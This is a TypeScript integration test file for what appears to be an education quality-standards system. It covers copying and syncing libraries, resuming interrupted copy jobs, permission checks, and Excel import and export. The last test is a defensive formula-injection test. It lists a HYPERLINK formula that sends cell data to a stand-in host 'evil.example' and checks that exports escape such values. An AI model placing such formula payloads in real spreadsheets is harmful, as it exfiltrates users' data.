      expect(await rowsOf(db, 'lib-big')).toEqual({ library: 1, indicators: 230, points: 2000, datasources: 2666, authorities: 3 });
      const before = await snapshotOutside(db, []);

      const started = await fabu.post(`${API}/target/copy`, { id: 'lib-big', name: '大库（2027）', cycleValue: '2027' });
      expect(started.body.meta.success).toBe(true);
      const { taskId, libraryId } = started.body.data as { taskId: string; libraryId: string };
      expect(taskId).toBe(`copy-${libraryId}`);
      expect(await taskResult(fabu, taskId)).toEqual({ meta: { success: true, message: '' }, data: true, code: 0 });

      expect(await rowsOf(db, libraryId)).toEqual({ library: 1, indicators: 230, points: 2000, datasources: 2666, authorities: 3 });
      // The same tree shape (every indicator's path and level), the same points on the same paths with the same codes,
      // definitions and data sources, the same grants.
      expect(await contentsOf(db, libraryId)).toEqual(source);
      const [copy] = await db.query(`SELECT name, cycle_value, creator_id, parent_id, target_level_id, tree_level, deleted_at FROM target_library WHERE id = $1`, [libraryId]);
      expect(copy).toEqual({ name: '大库（2027）', cycle_value: '2027', creator_id: 'u-publisher', parent_id: null, target_level_id: 'school', tree_level: 3, deleted_at: null });
      const [origins] = await db.query(
        `SELECT count(*)::int AS n FROM quality_point c JOIN quality_point s ON s.id = c.origin_id AND s.library_id = 'lib-big' AND s.code = c.code WHERE c.library_id = $1`,
        [libraryId],
      );
      expect(origins.n).toBe(2000);
      // Parents point inside the copy, never back into the source.
      const [outside] = await db.query(
        `SELECT count(*)::int AS n FROM indicator c LEFT JOIN indicator p ON p.id = c.parent_id WHERE c.library_id = $1 AND c.parent_id IS NOT NULL AND p.library_id IS DISTINCT FROM $1`,
        [libraryId],
      );
      expect(outside.n).toBe(0);
      expect(await snapshotOutside(db, [libraryId])).toEqual(before);

      // The same job again (a retry after a lost acknowledgement): already complete, nothing is added.
      const again = await t.app.get(CopyTargetJob).handle({ sourceId: 'lib-big', libraryId, name: '大库（2027）', cycleValue: '2027', requesterId: 'u-publisher' }, { jobId: taskId, attempt: 1 });
      expect(again).toEqual({ state: 'exists' });
      await t.app.get(JobQueue).enqueue('copy-target', { sourceId: 'lib-big', libraryId, name: 'x', cycleValue: null, requesterId: 'u-publisher' }, { jobId: taskId });
      expect(await taskResult(fabu, taskId)).toMatchObject({ data: true });
      expect(await rowsOf(db, libraryId)).toEqual({ library: 1, indicators: 230, points: 2000, datasources: 2666, authorities: 3 });
    });

    it('makes the requester the creator of the copy, and checks who may copy', async () => {
      const leader = await as('xld');
      const started = await leader.post(`${API}/target/copy`, { id: usedLib, name: '校领导的副本' });
      expect(await taskResult(leader, started.body.data.taskId)).toMatchObject({ data: true });
      const card = (await leader.get(`${API}/target/detail?id=${started.body.data.libraryId}`)).body.data;
      expect(card).toMatchObject({ name: '校领导的副本', cycleValue: '2026', creator: 'u-leader', creatorName: '刘建国', canEdit: true, access: 'write', pointCount: YEAR_POINTS });
      // The task owner has neither the target-standard menu nor a grant on the library.
      const owner = await as('rwfzr');
      expect((await owner.post(`${API}/target/copy`, { id: usedLib, name: '负责人副本' })).body).toMatchObject(NO_PERMISSION);
      expect((await fabu.post(`${API}/target/copy`, { id: usedLib, name: '' })).body.meta.message).toBe('请输入名称');
      expect((await fabu.get(`${API}/target/checkStatus?taskId=merge-123`)).body.meta.message).toBe('任务编号不正确');
    });

    it('leaves nothing of a copy interrupted midway, and the retry completes it', async () => {
      const observer = t.app.get(LibraryCopyObserver);
      const original = observer.reached.bind(observer);
      const seen: Array<[CopyStep, number]> = [];
      let release!: () => void;
      const released = new Promise<void>((resolve) => { release = resolve; });
      observer.reached = async (step, context) => {
        seen.push([step, context.attempt]);
        // The first try dies after the library, the tree and the points were written inside its transaction.
        if (context.attempt === 1 && step === 'points') throw new Error('worker killed midway');
        // The retry waits at its start until the test has looked.
        if (context.attempt === 2 && step === 'start') await released;
      };
      try {
        const started = await fabu.post(`${API}/target/copy`, { id: 'lib-big', name: '中断的复制' });
        const { taskId, libraryId } = started.body.data as { taskId: string; libraryId: string };
        await waitFor(async () => seen.some(([step, attempt]) => step === 'start' && attempt === 2), 'the retry to start', 20_000);
        expect(seen.slice(0, 4)).toEqual([['start', 1], ['library', 1], ['indicators', 1], ['points', 1]]);
        expect(await rowsOf(db, libraryId)).toEqual({ library: 0, indicators: 0, points: 0, datasources: 0, authorities: 0 });
        expect((await fabu.get(`${API}/target/checkStatus?taskId=${taskId}`)).body).toMatchObject({ meta: { success: true }, data: false });
        release();
        expect(await taskResult(fabu, taskId)).toMatchObject({ data: true });
        expect(await rowsOf(db, libraryId)).toEqual({ library: 1, indicators: 230, points: 2000, datasources: 2666, authorities: 3 });
        expect(await contentsOf(db, libraryId)).toEqual(await contentsOf(db, 'lib-big'));
      } finally {
        release();
        observer.reached = original;
      }
    });

    it('answers a copy that keeps failing with its message, and leaves nothing', async () => {
      const observer = t.app.get(LibraryCopyObserver);
      const original = observer.reached.bind(observer);
      observer.reached = async (step) => {
        if (step === 'datasources') throw new Error('disk full');
      };
      try {
        const started = await fabu.post(`${API}/target/copy`, { id: usedLib, name: '总失败' });
        const result = await taskResult(fabu, started.body.data.taskId, 20_000);
        expect(result.meta).toEqual({ success: false, message: '复制目标标准失败，请稍后重试' });
        expect(await rowsOf(db, started.body.data.libraryId)).toEqual({ library: 0, indicators: 0, points: 0, datasources: 0, authorities: 0 });
      } finally {
        observer.reached = original;
      }
    });
  });

  describe('sync', () => {
    it('pushes a parent\'s catalogue and points into its children, and changes nothing else', async () => {
      await buildLibrary(db, 'sync-parent', { tree: [2, 2, 2], points: 40 }, { name: '上级', level: 'major' });
      const [c1, c2, c3] = [await newLibrary({ name: '子一', parentId: 'sync-parent' }), await newLibrary({ name: '子二', parentId: 'sync-parent' }), await newLibrary({ name: '回收站里的子', parentId: 'sync-parent' })];
      await fabu.post(`${API}/target/delete`, { id: c3.id });
      // Child 1 has something of its own before the first sync: an indicator named like the parent's, and a point.
      const own = await addIndicator(c1.id, '一级指标1');
      await fabu.post(`${API}/quality/definitions/add`, { libraryId: c1.id, indicatorId: own, zkdid: 'OWN-1', zkdmc: '子库自己的', zlx: 'integer', mbz: '3' });

      const before = await snapshotOutside(db, [c1.id, c2.id]);
      const sync = async () => {
        const res = await fabu.post(`${API}/quality/sync`, { parentId: 'sync-parent' });
        expect(res.body.meta.success).toBe(true);
        expect(await taskResult(fabu, res.body.data.taskId)).toMatchObject({ data: true });
        return res.body.data.taskId as string;
      };
      await sync();
      expect(await snapshotOutside(db, [c1.id, c2.id])).toEqual(before);
      const parent = await contentsOf(db, 'sync-parent');
      expect(await contentsOf(db, c2.id)).toMatchObject({ indicators: parent.indicators, points: parent.points });
      // Child 1 used its own 一级指标1 instead of adding a twin, and kept its own point.
      const child1 = await contentsOf(db, c1.id);
      expect(child1.indicators).toEqual(parent.indicators);
      expect(child1.points).toHaveLength(41);
      expect(child1.points.filter((p) => p.includes('OWN-1'))).toHaveLength(1);
      expect(await rowsOf(db, c3.id)).toMatchObject({ indicators: 0, points: 0 });
      const [{ n: inherited }] = await db.query(
        `SELECT count(*)::int AS n FROM quality_point c JOIN quality_point p ON p.id = c.origin_id AND p.library_id = 'sync-parent' WHERE c.library_id = $1`,
        [c2.id],
      );
      expect(inherited).toBe(40);

      // Nothing changed: a second click answers the same task, already done.
      const again1 = await fabu.post(`${API}/quality/sync`, { parentId: 'sync-parent' });
      const again2 = await fabu.post(`${API}/quality/sync`, { parentId: 'sync-parent' });
      expect(again2.body.data.taskId).toBe(again1.body.data.taskId);

      // The parent changes; child 2 edits an inherited point and adds one of its own.
      await db.query(`UPDATE indicator SET name = '二级指标1.1（改）' WHERE id = 'sync-parent-a1-b1'`);
      await db.query(`UPDATE quality_point SET mbz = '99', zkdmc = '质控点1（改）' WHERE id = 'sync-parent-p1'`);
      await db.query(`DELETE FROM point_datasource WHERE point_id = 'sync-parent-p2'`);
      const newParentIndicator = await addIndicator('sync-parent', '新一级');
      await fabu.post(`${API}/quality/definitions/add`, { libraryId: 'sync-parent', indicatorId: newParentIndicator, zkdid: 'NEW-1', zkdmc: '上级新增', zlx: 'percent', mbz: '50' });
      await fabu.post(`${API}/quality/definitions/add`, { libraryId: 'sync-parent', indicatorId: 'sync-parent-a1', zkdid: 'OWN-1', zkdmc: '与子库编号相同', zlx: 'percent' });
      const [c2p3] = await db.query(`SELECT id FROM quality_point WHERE library_id = $1 AND origin_id = 'sync-parent-p3'`, [c2.id]);
      await fabu.post(`${API}/quality/definitions/update`, { id: c2p3.id, zkdmc: '子库改过的继承点' });
      const c2Own = await addIndicator(c2.id, '子二自建');
      await fabu.post(`${API}/quality/definitions/add`, { libraryId: c2.id, indicatorId: c2Own, zkdid: 'C2-1', zkdmc: '子二自己的', zlx: 'text' });

      const before2 = await snapshotOutside(db, [c1.id, c2.id]);
      const second = await sync();
      expect(second).not.toBe(again1.body.data.taskId);
      expect(await snapshotOutside(db, [c1.id, c2.id])).toEqual(before2);
      const parentNow = await contentsOf(db, 'sync-parent');
      const c2Now = await contentsOf(db, c2.id);
      // Everything of the parent's is in child 2 as the parent has it now (the edited inherited point reset) …
      expect(c2Now.points.filter((p) => !p.includes('C2-1'))).toEqual(parentNow.points);
      expect(c2Now.indicators.filter((i) => !i.includes('子二自建'))).toEqual(parentNow.indicators);
      // … and its own indicator and point untouched.
      expect(c2Now.points.find((p) => p.includes('C2-1'))).toContain('子二自建 | C2-1 | 子二自己的');
      // Child 1 keeps its own OWN-1; the parent's OWN-1 is not forced in.
      const c1Now = await contentsOf(db, c1.id);
      expect(c1Now.points.filter((p) => p.includes('OWN-1'))).toEqual([expect.stringContaining('子库自己的')]);
      expect(c1Now.points.some((p) => p.includes('质控点1（改）'))).toBe(true);
      expect(await rowsOf(db, c3.id)).toMatchObject({ indicators: 0, points: 0 });

      // Only writers of the parent sync all children.
      expect((await zj.post(`${API}/quality/sync`, { parentId: 'sync-parent' })).body).toMatchObject(NO_PERMISSION);
      expect((await fabu.post(`${API}/quality/sync`, { parentId: usedLib })).body.meta.message).toBe('该目标标准没有子库');
    });
  });

  describe('Excel', () => {
    it('downloads the template with the library\'s levels and a sample row', async () => {
      const lib = await newLibrary({ treeLevel: 2 });
      const res = await binary(fabu.get(`${API}/quality/template?libraryId=${lib.id}`));
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('质控点导入模板.xlsx')}`);
      const rows = await rowsOfXlsx(res.body as Buffer);
      expect(rows[0]).toEqual(['一级指标', '二级指标', '质控点编号', '质控点名称', '内涵', '诊断标准', '标准值', '目标值', '值类型', '采集方式', '展示方式']);
      expect(rows[1]).toEqual(['人才培养', '培养质量', 'XX-001', '毕业生初次就业率', '毕业生初次就业人数占毕业生总数的比例', '不低于标准值90%，目标值95%', '90', '95', '百分比', '填报', '表格']);
      expect((await rowsOfXlsx((await binary(fabu.get(`${API}/quality/template`))).body as Buffer))[0]).toEqual(HEADER);
    });

    it('reports every bad row of an import and imports nothing', async () => {
      const lib = await newLibrary();
      const l1 = await addIndicator(lib.id, '已有指标');
      await fabu.post(`${API}/quality/definitions/add`, { libraryId: lib.id, indicatorId: l1, zkdid: 'OLD-1', zkdmc: '已有', zlx: 'text' });
      const before = await rowsOf(db, lib.id);
      const good = (code: string) => ['人才培养', '培养质量', '就业', code, '就业率', '', '', '90', '95', '百分比', '填报', '表格'];
      const bytes = await xlsxOf([
        HEADER,
        good('A-1'),
        ['人才培养', '培养质量', '就业', 'A-2', '', '', '', '90', '95', '百分比', '', ''],
        ['人才培养', '培养质量', '就业', 'A-3', '名', '', '', '90', '95', '金额', '', ''],
        ['人才培养', '培养质量', '就业', 'A-4', '名', '', '', '90', '很高', '百分比', '', ''],
        good('A-1'),
        ['人才培养', '', '就业', 'A-5', '名', '', '', '1', '1', '有', '', ''],
        good('OLD-1'),
        good('A-6'),
      ]);
      const res = await importSheet(t, fabu, lib.id, bytes);
      expect(res.status).toBe(400);
      expect(res.body).toEqual({
        meta: { success: false, message: '导入失败：6行数据有误' },
        data: [
          { row: 3, reason: '缺少质控点名称' },
          { row: 4, reason: '值类型不正确：金额（应为有/是否/百分比/整数/小数/文本）' },
          { row: 5, reason: '目标值：请填写数字' },
          { row: 6, reason: '质控点编号重复：与第2行相同' },
          { row: 7, reason: '指标层级不连续：二级指标为空' },
          { row: 8, reason: '质控点编号已存在：OLD-1' },
        ],
        code: 40000001,
      });
      expect(await rowsOf(db, lib.id)).toEqual(before);

      expect((await importSheet(t, fabu, lib.id, Buffer.from('%PDF-1.7\nnot a workbook'), 'a.xlsx')).body.meta.message).toBe('文件类型错误');
      expect((await importSheet(t, fabu, lib.id, Buffer.alloc(0), 'a.xlsx')).body.meta.message).toBe('文件为空');
      const big = await importSheet(t, fabu, lib.id, Buffer.alloc(10 * 1024 * 1024 + 1, 1), 'big.xlsx');
      expect([big.status, big.body.meta.message]).toEqual([400, '导入文件大小超过10MB']);
      expect((await fabu.post(`${API}/quality/import?libraryId=${lib.id}`)).body.meta.message).toBe('请先选取文件!');
      expect((await importSheet(t, zj, usedLib, bytes)).body).toMatchObject(NO_PERMISSION);
      expect(await rowsOf(db, lib.id)).toEqual(before);
    });

    it('imports good rows: the missing indicators along each path and the points, in one go', async () => {
      const lib = await newLibrary({ targetLevelId: 'teacher' });
      const existing = await addIndicator(lib.id, '师德师风');
      const bytes = await xlsxOf([
        HEADER,
        ['师德师风', '师德考核', '', 'T-1', '师德考核优秀率', '内涵', '标准', '90', '95', '百分比', '填报', '表格'],
        ['师德师风', '师德考核', '', '', '违规人数', '', '', '0', '0', '整数', 'SQL', '折线图'],
        ['教学能力', '课堂教学', '评教', '', '是否开展评教', '', '', '是', '是', '是否', '', ''],
        ['', '', '', '', '', '', '', '', '', '', '', ''],
      ]);
      const res = await importSheet(t, fabu, lib.id, bytes);
      expect(res.body).toEqual({ meta: { success: true, message: '导入成功！' }, data: { indicators: 4, points: 3 }, code: 0 });
      const { nodes } = await tree(fabu, lib.id);
      const shape = (ns: Node[]): unknown => ns.map((n) => [n.storedName, shape(n.children)]);
      expect(shape(nodes)).toEqual([['师德师风', [['师德考核', []]]], ['教学能力', [['课堂教学', [['评教', []]]]]]]);
      expect(nodes[0]!.id).toBe(existing);
      const points = (await fabu.get(`${API}/quality/definitions?libraryId=${lib.id}`)).body.data as Array<Record<string, unknown>>;
      expect(points.map((p) => [p.zkdid, p.zkdmc, p.zlx, p.bzz, p.mbz, (p.datasources as Array<{ cjfs: string; xsfs: string }>).map((d) => `${d.cjfs}/${d.xsfs}`).join()])).toEqual([
        ['T-1', '师德考核优秀率', 'percent', '90', '95', 'report/table'],
        ['JS-001', '违规人数', 'integer', '0', '0', 'sql/line'],
        ['JS-002', '是否开展评教', 'whether', '1', '1', 'report/table'],
      ]);
    });

    it('exports a library and imports it back to the same definitions', async () => {
      const res = await binary(zj.get(`${API}/quality/export?libraryId=${usedLib}`));
      expect(res.status).toBe(200);
      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('2026年lb目标标准质控点.xlsx')}`);
      const rows = await rowsOfXlsx(res.body as Buffer);
      expect(rows[0]).toEqual(HEADER);
      expect(rows).toHaveLength(YEAR_POINTS + 1);
      expect(rows[1]!.slice(0, 5)).toEqual(['人才培养', '培养质量', '就业质量', 'FX-00001', '质控点1']);

      const lib = await newLibrary({ name: '导回来的库' });
      expect((await importSheet(t, fabu, lib.id, res.body as Buffer)).body).toMatchObject({ meta: { success: true, message: '导入成功！' }, data: { points: YEAR_POINTS } });
      // Everything the layout carries: the path, code, name, nh, zdbz, standard, target, value type, method and mode.
      const definitions = (id: string) => db.query(
        `WITH RECURSIVE t(id, path) AS (
           SELECT id, name::text FROM indicator WHERE library_id = $1 AND parent_id IS NULL
           UNION ALL SELECT i.id, t.path || ' > ' || i.name FROM indicator i JOIN t ON i.parent_id = t.id
         )
         SELECT t.path, p.code, p.zkdmc, p.nh, p.zdbz, p.bzz, p.mbz, p.zlx,
                (SELECT d.cjfs || '/' || d.xsfs FROM point_datasource d WHERE d.point_id = p.id ORDER BY d.sort_order LIMIT 1) AS source
         FROM quality_point p JOIN t ON t.id = p.indicator_id WHERE p.library_id = $1 ORDER BY p.code`,
        [id],
      );
      const original = await definitions(usedLib);
      expect(original).toHaveLength(YEAR_POINTS);
      expect(await definitions(lib.id)).toEqual(original);
    });

    it('exports names that would start a formula as text behind a quote, and imports them back as typed (issue 31 item 14)', async () => {
      const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
      const lib = await newLibrary();
      const imported = await importSheet(t, fabu, lib.id, await xlsxOf([
        HEADER,
        ...FORMULAS.map((name, i) => ['=指标', '+二级', '-三级', `F-${String(i)}`, name, '@内涵', '-1+2', '0', '5', '整数', '填报', '表格']),
      ]));
      expect(imported.body).toMatchObject({ meta: { success: true, message: '导入成功！' }, data: { points: 4 } });
      const res = await binary(fabu.get(`${API}/quality/export?libraryId=${lib.id}`));
      expect(res.status).toBe(200);
      const rows = (await rowsOfXlsx(res.body as Buffer)).slice(1);
      expect(rows.map((r) => r[4])).toEqual(FORMULAS.map((f) => `'${f}`));
      expect(rows[0]!.slice(0, 9)).toEqual(["'=指标", "'+二级", "'-三级", 'F-0', `'${FORMULAS[0]!}`, "'@内涵", "'-1+2", '0', '5']);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // the quote is only in the file: imported again, the names are as typed
      const again = await newLibrary();
      expect((await importSheet(t, fabu, again.id, res.body as Buffer)).body).toMatchObject({ meta: { success: true }, data: { points: 4 } });
      const names = await db.query(`SELECT zkdmc FROM quality_point WHERE library_id = $1 ORDER BY code`, [again.id]);
      expect(names.map((n: { zkdmc: string }) => n.zkdmc)).toEqual(FORMULAS);
    });
  });
});
